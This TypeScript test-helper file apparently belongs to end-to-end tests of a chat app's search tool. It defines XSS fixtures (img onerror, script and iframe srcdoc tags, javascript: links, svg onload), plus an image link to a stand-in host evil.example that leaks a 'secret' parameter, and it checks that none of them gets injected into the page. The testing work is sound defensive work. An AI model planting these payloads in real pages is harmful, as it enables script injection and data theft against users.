import { expect } from 'vitest';
import type { Chat } from './tool-search.test-helpers';

// The hostile texts of tool-search.e2e.ts (a search service's answer, the tool output made of it, a model's reply
// quoting it) and the check that nothing in the page was made from them.

// What a hostile search service answers: markup escaped so that it survives the search tool's tag stripping (it
// decodes entities after removing tags), a raw tag that does not survive, and addresses that are not web pages.
export const HOSTILE_RESULTS = [
  {
    title: '&lt;img src=x onerror="window.__pwned=1;alert(1)"&gt; Breaking news',
    url: 'javascript:window.__pwned=2',
    content:
      '&lt;script&gt;window.__pwned=3&lt;/script&gt; [click](javascript:window.__pwned=4) ![x](https://evil.example/x.png?c=secret)',
  },
  {
    title: '<a href="javascript:window.__pwned=5">A raw link</a> in a title',
    url: 'https://evil.example/"><img src=x onerror=window.__pwned=6>',
    content: '&lt;iframe srcdoc="&lt;script&gt;parent.__pwned=7&lt;/script&gt;"&gt;&lt;/iframe&gt;',
  },
];
export const HOSTILE_ANSWER = '&lt;svg onload="window.__pwned=8"&gt;&lt;/svg&gt;';
export const HOSTILE_QUERY = '<img src=x onerror="window.__pwned=9">';
export const HOSTILE_OUTPUT = [
  `SearXNG results for ${JSON.stringify(HOSTILE_QUERY)}:`,
  '',
  'Answer: <svg onload="window.__pwned=8"></svg>',
  '',
  '1. <img src=x onerror="window.__pwned=1;alert(1)"> Breaking news',
  '   javascript:window.__pwned=2',
  '   <script>window.__pwned=3</script> [click](javascript:window.__pwned=4) ![x](https://evil.example/x.png?c=secret)',
  '',
  '2. A raw link in a title',
  '   https://evil.example/"><img src=x onerror=window.__pwned=6>',
  '   <iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>',
].join('\n');
// The model quotes it back as Markdown: raw HTML, links and an image with script addresses, an autolink.
export const HOSTILE_REPLY = [
  'Found: <img src=x onerror="window.__pwned=10;alert(10)"> and <script>window.__pwned=11</script>.',
  '',
  '[click me](javascript:window.__pwned=12) or <javascript:window.__pwned=13> or ![pic](javascript:window.__pwned=14)',
  '',
  '<a href="javascript:window.__pwned=15">a raw link</a> <iframe src="javascript:window.__pwned=16"></iframe> <svg onload="window.__pwned=17"></svg>',
].join('\n');

/** Nothing made from the hostile text: no handler attribute, script, frame or script link anywhere, nothing ran. */
export async function expectNothingInjected(chat: Chat): Promise<void> {
  const { page } = chat;
  // Let any image that was made fail to load and fire its handler before looking.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
  const found = await page.evaluate(() => ({
    handlers: [...document.querySelectorAll('*')].filter((el) =>
      [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on')),
    ).length,
    scripts: document.querySelectorAll('[role="log"] script, [role="log"] iframe, [role="log"] object')
      .length,
    scriptLinks: [...document.querySelectorAll('[href], [src], [srcdoc]')].filter((el) =>
      ['href', 'src'].some((name) => /^\s*javascript:/i.test(el.getAttribute(name) ?? '')),
    ).length,
    srcdocs: document.querySelectorAll('[srcdoc]').length,
    images: [...document.querySelectorAll('[role="log"] img')].map((img) => img.getAttribute('src')),
    pwned: (window as unknown as { __pwned?: unknown }).__pwned,
  }));
  expect(found).toEqual({
    handlers: 0,
    scripts: 0,
    scriptLinks: 0,
    srcdocs: 0,
    images: [],
    pwned: undefined,
  });
  expect(chat.dialogs).toEqual([]);
}
